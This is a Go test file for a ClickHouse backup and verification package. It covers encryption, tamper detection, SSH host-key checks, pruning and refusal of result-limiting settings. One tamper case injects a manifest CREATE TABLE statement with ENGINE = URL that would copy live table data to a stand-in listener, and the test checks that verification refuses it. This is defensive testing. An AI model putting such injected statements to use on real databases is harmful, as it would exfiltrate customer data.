package chbackup

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"filippo.io/age"
	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/knownhosts"

	"github.com/glassmkr/guardian/shared/config"
	"github.com/glassmkr/guardian/shared/job"
	"github.com/glassmkr/guardian/shared/testenv"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m)) }

const canary = "CANARY-7f3a9c-not-in-any-blob"

// fixture is a migrated ClickHouse database with rows in several daily
// partitions, sshd servers as targets, and an age key pair.
type fixture struct {
	cfg  Config
	ch   *chClient
	id   *age.X25519Identity
	srvs []*testenv.SFTP
	root []string // each target's directory, local path
	// The clock of a run: base, then a minute more for each tick. base
	// is this host's time, which the sshd targets share: Backup checks
	// that the backup host's clock agrees.
	base time.Time
	tick atomic.Int64
}

func newFixture(t *testing.T, targets int) *fixture {
	t.Helper()
	db := testenv.ClickHouse(t)
	env := testenv.Servers(t, "clickhouse")
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{id: id, base: time.Now().UTC().Truncate(time.Minute)}
	f.cfg = Config{
		ClickHouse: config.ClickHouse{Addr: db.Addr, User: db.User, Password: db.Password, Database: db.Database},
		HTTPURL:    env["GUARDIAN_CLICKHOUSE_HTTP_URL"],
		Recipients: []age.Recipient{id.Recipient()},
		KeepDays:   30,
		clock:      func() time.Time { return f.base.Add(time.Duration(f.tick.Load()) * time.Minute) },
	}
	var known []byte
	for i := range targets {
		s := testenv.SFTPServer(t)
		f.srvs = append(f.srvs, s)
		target, err := ParseTarget(s.Target(fmt.Sprintf("backups-%d", i)))
		if err != nil {
			t.Fatal(err)
		}
		f.cfg.Targets = append(f.cfg.Targets, target)
		f.root = append(f.root, target.Path)
		kh, err := os.ReadFile(s.KnownHosts)
		if err != nil {
			t.Fatal(err)
		}
		known = append(known, kh...)
		if i > 0 { // one client key for every target, as in production
			authorize(t, f.srvs[0].KeyPath, s)
		}
	}
	if targets > 0 {
		f.cfg.SSHKeyFile = f.srvs[0].KeyPath
		f.cfg.KnownHostsFile = filepath.Join(t.TempDir(), "known_hosts")
		if err := os.WriteFile(f.cfg.KnownHostsFile, known, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	f.ch = newCHClient(f.cfg)
	q := fmt.Sprintf(`INSERT INTO %[1]s.snapshots
		SELECT concat('cust-', toString(number %% 3)), concat('srv-', toString(number %% 5)),
		       toDateTime('2026-11-20 00:00:00') + number * 613, now(), '1.4.2', 90,
		       concat('{"note":"%[2]s","n":', toString(number), ',"load":', toString(number * 7 %% 100), '}')
		FROM system.numbers LIMIT 1000`, db.Database, canary)
	f.exec(t, q)
	f.exec(t, fmt.Sprintf(`INSERT INTO %s.alert_history
		SELECT 'cust-1', 'srv-1', toDateTime('2026-11-25 10:00:00') + number * 60, concat('a', toString(number)),
		       'disk_full', 'critical', 'firing', '%s' FROM system.numbers LIMIT 25`, db.Database, canary))
	return f
}

// authorize lets the client key at keyPath log in to s.
func authorize(t *testing.T, keyPath string, s *testenv.SFTP) {
	t.Helper()
	b, err := os.ReadFile(keyPath)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.ParsePrivateKey(b)
	if err != nil {
		t.Fatal(err)
	}
	ak, err := os.OpenFile(filepath.Join(s.Dir, "authorized_keys"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer ak.Close()
	if _, err := ak.Write(ssh.MarshalAuthorizedKey(signer.PublicKey())); err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) exec(t *testing.T, q string) {
	t.Helper()
	if err := f.ch.exec(context.Background(), q); err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) count(t *testing.T, q string) uint64 {
	t.Helper()
	n, err := one[struct{ N string }](context.Background(), f.ch, "SELECT toString(count()) AS N FROM "+q)
	if err != nil {
		t.Fatal(err)
	}
	var v uint64
	fmt.Sscan(n.N, &v)
	return v
}

// backup runs Backup at the next minute of the fixture's clock.
func (f *fixture) backup(t *testing.T) SetInfo {
	t.Helper()
	f.tick.Add(1)
	info, err := Backup(context.Background(), f.cfg)
	if err != nil {
		t.Fatalf("backup: %v", err)
	}
	return info
}

func (f *fixture) verify(t *testing.T) (VerifyReport, error) {
	t.Helper()
	return VerifyLatest(context.Background(), f.cfg, f.id)
}

func (f *fixture) manifest(t *testing.T, target int, set string) Manifest {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(f.root[target], set, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	var m Manifest
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func (f *fixture) latest(t *testing.T, target int) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(f.root[target], latestName))
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

func scratchDatabases(t *testing.T, f *fixture) uint64 {
	return f.count(t, "system.databases WHERE startsWith(name, "+quoteString(scratchPrefix(f.cfg.ClickHouse.Database))+")")
}

func TestBackupWritesEncryptedSetToEveryTargetAndVerifies(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 2)
	info := f.backup(t)
	if info.Name != f.base.Add(time.Minute).Format(setLayout) {
		t.Errorf("set name %q", info.Name)
	}
	db := f.cfg.ClickHouse.Database
	total := f.count(t, db+".snapshots") + f.count(t, db+".alert_history") + f.count(t, db+".schema_migrations")
	if info.Rows != total || total < 1000 {
		t.Errorf("set has %d rows, database %d", info.Rows, total)
	}
	for i, tr := range info.Targets {
		if !tr.OK {
			t.Errorf("target %d: %+v", i, tr)
		}
	}

	m := f.manifest(t, 0, info.Name)
	if m2 := f.manifest(t, 1, info.Name); !equalJSON(t, m, m2) {
		t.Error("the two targets hold different manifests")
	}
	tables := map[string]TableManifest{}
	for _, tm := range m.Tables {
		tables[tm.Name] = tm
	}
	snap := tables["snapshots"]
	if len(snap.Blobs) < 7 || snap.PartitionKey != "toYYYYMMDD(ts)" || !strings.HasPrefix(snap.Create, "CREATE TABLE "+db+".snapshots") {
		t.Fatalf("snapshots in manifest: %d blobs, key %q, create %q", len(snap.Blobs), snap.PartitionKey, snap.Create)
	}
	for _, b := range snap.Blobs {
		want := f.count(t, db+".snapshots WHERE toYYYYMMDD(ts) = "+b.Partition)
		if b.Rows != want || want == 0 {
			t.Errorf("partition %s: manifest %d rows, table %d", b.Partition, b.Rows, want)
		}
		if len(b.SHA256) != 64 || b.CipherBytes <= 0 || b.PlainBytes <= 0 {
			t.Errorf("partition %s: %+v", b.Partition, b)
		}
	}
	if mig := tables["schema_migrations"]; len(mig.Blobs) != 1 || mig.Blobs[0].PartitionID != "all" || mig.PartitionKey != "" {
		t.Errorf("unpartitioned table: %+v", mig)
	}

	for i, root := range f.root {
		if got := f.latest(t, i); got != info.Name {
			t.Errorf("target %d: LATEST %q", i, got)
		}
		n := 0
		_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			if bytes.Contains(b, []byte(canary)) || bytes.Contains(b, []byte("cust-1")) {
				t.Errorf("%s holds plaintext rows", p)
			}
			if strings.HasSuffix(p, blobSuffix) {
				n++
			}
			return nil
		})
		if n != info.Blobs {
			t.Errorf("target %d holds %d blobs, set has %d", i, n, info.Blobs)
		}
	}

	before := scratchDatabases(t, f)
	rep, err := f.verify(t)
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if len(rep.Targets) != 2 {
		t.Fatalf("report: %+v", rep)
	}
	for _, tv := range rep.Targets {
		if !tv.OK || tv.Set != info.Name || tv.Rows != info.Rows || tv.Blobs != info.Blobs {
			t.Errorf("verify: %+v", tv)
		}
	}
	if after := scratchDatabases(t, f); after != before {
		t.Errorf("scratch databases: %d before, %d after", before, after)
	}
}

func equalJSON(t *testing.T, a, b any) bool {
	ja, _ := json.Marshal(a)
	jb, _ := json.Marshal(b)
	return bytes.Equal(ja, jb)
}

// TestVerifyIsRedOnDamagedSets damages the latest set as a failing disk, a
// lost file or someone with write access to the target would, and checks
// that verification says red and drops its scratch database.
func TestVerifyIsRedOnDamagedSets(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	blobOf := func(m Manifest) (Blob, string) {
		for _, tm := range m.Tables {
			if tm.Name == "snapshots" {
				return tm.Blobs[2], filepath.Join(f.root[0], m.Set, tm.Blobs[2].File)
			}
		}
		t.Fatal("no snapshots in manifest")
		return Blob{}, ""
	}
	editManifest := func(set string, edit func(*Manifest)) {
		m := f.manifest(t, 0, set)
		edit(&m)
		b, _ := json.Marshal(m)
		if err := os.WriteFile(filepath.Join(f.root[0], set, manifestName), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// A listener standing in for someone the backup host would send the
	// live data to, through a manifest's statement.
	var exfilHits atomic.Int64
	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { exfilHits.Add(1) }))
	defer exfil.Close()
	cases := []struct {
		name   string
		damage func(set string)
		want   string
	}{
		{"a flipped byte in a blob fails its hash", func(set string) {
			_, p := blobOf(f.manifest(t, 0, set))
			b, _ := os.ReadFile(p)
			b[len(b)/2] ^= 0x01
			os.WriteFile(p, b, 0o600)
		}, "SHA-256"},
		{"a blob changed together with its manifest entry fails to decrypt", func(set string) {
			bl, p := blobOf(f.manifest(t, 0, set))
			b, _ := os.ReadFile(p)
			b[len(b)-20] ^= 0x01
			os.WriteFile(p, b, 0o600)
			editManifest(set, func(m *Manifest) {
				for ti := range m.Tables {
					for bi := range m.Tables[ti].Blobs {
						if m.Tables[ti].Blobs[bi].File == bl.File {
							m.Tables[ti].Blobs[bi].SHA256 = sha256Hex(b)
						}
					}
				}
			})
		}, "does not decrypt"},
		{"a blob longer than its manifest entry", func(set string) {
			_, p := blobOf(f.manifest(t, 0, set))
			b, _ := os.ReadFile(p)
			os.WriteFile(p, append(b, make([]byte, 4096)...), 0o600)
		}, "bytes, the manifest says"},
		{"a missing blob", func(set string) {
			_, p := blobOf(f.manifest(t, 0, set))
			os.Remove(p)
		}, "is missing"},
		{"a missing LATEST", func(set string) {
			os.Remove(filepath.Join(f.root[0], latestName))
		}, "no LATEST"},
		{"a missing manifest", func(set string) {
			os.Remove(filepath.Join(f.root[0], set, manifestName))
		}, "no manifest"},
		{"a manifest table that would send the live data away", func(set string) {
			editManifest(set, func(m *Manifest) {
				m.Tables = append(m.Tables, TableManifest{Name: "zz", Blobs: []Blob{},
					Create: "CREATE TABLE " + m.Database + ".zz ENGINE = URL('" + exfil.URL + "/', TSV) AS SELECT payload FROM " + m.Database + ".snapshots"})
			})
		}, "copies another table or query"},
		{"a manifest of no table", func(set string) {
			editManifest(set, func(m *Manifest) { m.Tables = nil })
		}, "lists no table"},
		{"a manifest whose row count differs from the data", func(set string) {
			editManifest(set, func(m *Manifest) {
				for ti := range m.Tables {
					if m.Tables[ti].Name == "snapshots" {
						m.Tables[ti].Blobs[1].Rows++
					}
				}
			})
		}, "rows loaded"},
	}
	before := scratchDatabases(t, f)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			info := f.backup(t)
			c.damage(info.Name)
			rep, err := f.verify(t)
			if !errors.Is(err, job.ErrRed) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("verify: %v, want red with %q", err, c.want)
			}
			if len(rep.Targets) != 1 || rep.Targets[0].OK {
				t.Errorf("report: %+v", rep)
			}
		})
	}
	if after := scratchDatabases(t, f); after != before {
		t.Errorf("scratch databases: %d before, %d after", before, after)
	}
	if got := exfilHits.Load(); got != 0 {
		t.Errorf("a manifest's statement sent the live data away (%d requests)", got)
	}

	t.Run("ClickHouse unreachable is an error, not red", func(t *testing.T) {
		f.backup(t)
		cfg := f.cfg
		cfg.HTTPURL = fmt.Sprintf("http://127.0.0.1:%d", testenv.FreePort(t))
		_, err := VerifyLatest(context.Background(), cfg, f.id)
		if err == nil || errors.Is(err, job.ErrRed) {
			t.Fatalf("verify: %v", err)
		}
	})
	t.Run("the wrong identity is red", func(t *testing.T) {
		f.backup(t)
		other, _ := age.GenerateX25519Identity()
		_, err := VerifyLatest(context.Background(), f.cfg, other)
		if !errors.Is(err, job.ErrRed) || !strings.Contains(err.Error(), "does not decrypt") {
			t.Fatalf("verify: %v", err)
		}
	})
}

func TestUnknownOrChangedHostKeyIsRefused(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	s := f.srvs[0]
	changed := filepath.Join(t.TempDir(), "changed")
	otherKey, _ := ssh.ParsePrivateKey(mustRead(t, s.KeyPath)) // the client key is not the host key
	os.WriteFile(changed, []byte(knownhosts.Line([]string{knownhosts.Normalize(s.Addr)}, otherKey.PublicKey())+"\n"), 0o600)
	unknown := filepath.Join(t.TempDir(), "unknown")
	os.WriteFile(unknown, []byte(knownhosts.Line([]string{"[127.0.0.1]:1"}, s.HostKey)+"\n"), 0o600)

	for _, c := range []struct{ name, file, want string }{
		{"a changed key", changed, "differs"},
		{"an unknown host", unknown, "not in"},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := f.cfg
			cfg.KnownHostsFile = c.file
			_, err := Backup(context.Background(), cfg)
			if err == nil || errors.Is(err, job.ErrRed) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("backup: %v", err)
			}
			if entries, _ := os.ReadDir(f.root[0]); len(entries) != 0 {
				t.Errorf("something was written: %v", entries)
			}
		})
	}
}

func sha256Hex(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestInterruptedBackupIsNeverLatest(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	first := f.backup(t)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cfg := f.cfg
	blobs := 0
	cfg.afterBlob = func(string, string) {
		if blobs++; blobs == 3 {
			cancel()
		}
	}
	f.tick.Add(1)
	broken, err := Backup(ctx, cfg)
	if err == nil {
		t.Fatal("an interrupted backup succeeded")
	}
	if got := f.latest(t, 0); got != first.Name {
		t.Fatalf("LATEST %q after an interrupted run, want %q", got, first.Name)
	}
	if _, err := os.Stat(filepath.Join(f.root[0], broken.Name+partialSuffix)); err != nil {
		t.Errorf("the interrupted set's .partial directory: %v", err)
	}
	if _, err := os.Stat(filepath.Join(f.root[0], broken.Name)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the interrupted set exists: %v", err)
	}
	if rep, err := f.verify(t); err != nil || rep.Targets[0].Set != first.Name {
		t.Errorf("verify after the interrupted run: %v %+v", err, rep)
	}

	next := f.backup(t)
	if got := f.latest(t, 0); got != next.Name {
		t.Errorf("LATEST %q, want %q", got, next.Name)
	}
	if _, err := os.Stat(filepath.Join(f.root[0], broken.Name+partialSuffix)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the next run left the .partial directory: %v", err)
	}
}

func TestPruneKeepsLatestAndRecentSets(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	f.backup(t) // creates the target directory
	now := f.cfg.now().Add(time.Minute)
	old := func(days int) string { return now.AddDate(0, 0, -days).Format(setLayout) }
	// A set of 29 days and a few minutes less (the run that made it began
	// a little later in the day) goes too: kept to the next run, it would
	// be 30 days old, and an account purged just after it began would
	// outlive the posture's 30 days in it.
	almost30 := now.AddDate(0, 0, -29).Add(10 * time.Minute).Format(setLayout)
	for _, name := range []string{old(45), old(31), almost30, old(28), old(1), "notes"} {
		if err := os.MkdirAll(filepath.Join(f.root[0], name, "snapshots"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	info := f.backup(t)
	if want := []string{old(45), old(31), almost30}; fmt.Sprint(info.Targets[0].Pruned) != fmt.Sprint(want) {
		t.Errorf("pruned %v, want %v", info.Targets[0].Pruned, want)
	}
	for _, name := range []string{old(28), old(1), "notes", info.Name} {
		if _, err := os.Stat(filepath.Join(f.root[0], name)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}

	// The set LATEST names stays, however old.
	r, err := dialFixture(t, f)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	pruned, err := prune(r, now, now.AddDate(1, 0, 0), old(28))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range pruned {
		if p == old(28) {
			t.Error("prune removed the set it was told to keep")
		}
	}
	if _, err := os.Stat(filepath.Join(f.root[0], old(28))); err != nil {
		t.Errorf("kept set: %v", err)
	}
}

// Expired sets are pruned before the new set is made: a run that fails
// (ClickHouse down, a full disk, which pruning would relieve) still
// removes them, never the set LATEST names, and leaves nothing of its own.
func TestExpiredSetsGoEvenWhenTheRunFails(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	first := f.backup(t)
	now := f.cfg.now().Add(time.Minute)
	expired := now.AddDate(0, 0, -40).Format(setLayout)
	if err := os.MkdirAll(filepath.Join(f.root[0], expired, "snapshots"), 0o700); err != nil {
		t.Fatal(err)
	}
	cfg := f.cfg
	cfg.ClickHouse.Database = "no_such_database"
	f.tick.Add(1)
	info, err := Backup(context.Background(), cfg)
	if err == nil {
		t.Fatal("a run without its database succeeded")
	}
	if fmt.Sprint(info.Targets[0].Pruned) != fmt.Sprint([]string{expired}) {
		t.Errorf("pruned %v, want %v", info.Targets[0].Pruned, []string{expired})
	}
	entries, _ := os.ReadDir(f.root[0])
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if want := []string{first.Name, latestName}; fmt.Sprint(names) != fmt.Sprint(want) {
		t.Errorf("the target holds %v, want %v", names, want)
	}
}

func dialFixture(t *testing.T, f *fixture) (*remote, error) {
	auth, err := loadSSHAuth(f.cfg)
	if err != nil {
		return nil, err
	}
	return dial(context.Background(), auth, f.cfg.Targets[0])
}

func TestAFailingTargetDoesNotStopTheOthers(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 2)
	if err := f.srvs[1].Stop(); err != nil {
		t.Fatal(err)
	}
	f.tick.Add(1)
	info, err := Backup(context.Background(), f.cfg)
	if err == nil || errors.Is(err, job.ErrRed) || !strings.Contains(err.Error(), f.cfg.Targets[1].String()) {
		t.Fatalf("backup: %v", err)
	}
	if !info.Targets[0].OK || info.Targets[1].OK {
		t.Errorf("targets: %+v", info.Targets)
	}
	if got := f.latest(t, 0); got != info.Name {
		t.Errorf("LATEST on the primary: %q", got)
	}
	rep, err := f.verify(t)
	if err == nil || errors.Is(err, job.ErrRed) || !rep.Targets[0].OK {
		t.Errorf("verify: %v %+v", err, rep)
	}
}

// A database with nothing to back up (misspelt, or not migrated yet) is an
// error: a set of nothing would verify green, and as days passed pruning
// would remove every real set.
func TestBackingUpNothingIsAnError(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	cfg := f.cfg
	cfg.ClickHouse.Database = "no_such_database"
	f.tick.Add(1)
	if _, err := Backup(context.Background(), cfg); err == nil || !strings.Contains(err.Error(), "no MergeTree table") {
		t.Fatalf("backup of a database without tables: %v", err)
	}
	if entries, _ := os.ReadDir(f.root[0]); len(entries) != 0 {
		t.Fatalf("the target holds %d entries after backing up nothing", len(entries))
	}
}

// A verification killed outright leaves its scratch copy (plaintext
// customer data nothing else deletes); the next one drops it, and only
// the scratch copies of its own database.
func TestVerifyDropsAKilledRunsScratchCopy(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1)
	f.backup(t)
	ctx := context.Background()
	mine := scratchPrefix(f.cfg.ClickHouse.Database) + "0123456789ab"
	other := scratchPrefix(f.cfg.ClickHouse.Database+"_other") + "0123456789ab"
	for _, d := range []string{mine, other} {
		for _, q := range []string{"CREATE DATABASE " + d, "CREATE TABLE " + d + ".t (x UInt8) ENGINE = Memory"} {
			if err := f.ch.exec(ctx, q); err != nil {
				t.Fatal(err)
			}
		}
	}
	t.Cleanup(func() { _ = f.ch.exec(context.Background(), "DROP DATABASE IF EXISTS "+other) })
	if _, err := f.verify(t); err != nil {
		t.Fatal(err)
	}
	if n := f.count(t, "system.databases WHERE name = '"+mine+"'"); n != 0 {
		t.Error("the killed run's scratch copy is still there")
	}
	if n := f.count(t, "system.databases WHERE name = '"+other+"'"); n != 1 {
		t.Error("another database's scratch copy was dropped")
	}
}

// Settings of newer servers than the tests run (18.16 has neither) that
// filter every SELECT's rows are refused like a limit in break mode; their
// defaults are not.
func TestRowFiltersThatCutDumpsShortAreRefused(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		v    map[string]string
		want string
	}{
		{map[string]string{"additional_table_filters": "{}", "additional_result_filter": ""}, ""},
		{map[string]string{"additional_table_filters": "{'snapshots':'customer_id != 1'}"}, "additional_table_filters={'snapshots':'customer_id != 1'}"},
		{map[string]string{"additional_result_filter": "x > 1"}, "additional_result_filter=x > 1"},
		{map[string]string{"limit": "0", "offset": "5"}, "offset=5"},
		{map[string]string{}, ""},
	} {
		got := strings.Join(cuttingSettings(c.v), ", ")
		if got != c.want {
			t.Errorf("%v: %q, want %q", c.v, got, c.want)
		}
	}
}

// A profile limit in "break" mode makes ClickHouse answer a SELECT short
// without an error; a backup under one would record a shortened table as
// whole. The backup refuses such settings, and accepts limits that throw.
func TestLimitsThatCutDumpsShortAreRefused(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 0)
	ctx := context.Background()
	withSettings := func(q string) *chClient {
		c := *f.ch
		c.base += "?" + q
		return &c
	}
	// The hazard, on this server: a dump under the limit is short.
	short := withSettings("max_result_rows=100&result_overflow_mode=break")
	resp, err := short.post(ctx, "SELECT * FROM "+quoteIdent(f.cfg.ClickHouse.Database)+".snapshots FORMAT Native", nil)
	if err != nil {
		t.Fatal(err)
	}
	st, err := CountNativeRows(bufio.NewReader(resp.Body))
	resp.Body.Close()
	if err != nil || st.Rows >= 1000 {
		t.Fatalf("a dump under max_result_rows=100 in break mode: %d rows, %v; want fewer than the table's 1000", st.Rows, err)
	}
	cases := []struct{ settings, want string }{
		{"max_result_rows=100&result_overflow_mode=break", "max_result_rows=100 with result_overflow_mode=break"},
		{"max_rows_to_read=100&read_overflow_mode=break", "max_rows_to_read=100 with read_overflow_mode=break"},
		{"max_execution_time=60&timeout_overflow_mode=break", "max_execution_time=60 with timeout_overflow_mode=break"},
		{"max_result_rows=100&result_overflow_mode=throw", ""},
		{"max_rows_to_read=0&read_overflow_mode=break", ""},
		{"", ""},
	}
	for _, c := range cases {
		err := checkLimits(ctx, withSettings(c.settings))
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%q: %v, want %q", c.settings, err, c.want)
		}
	}
}
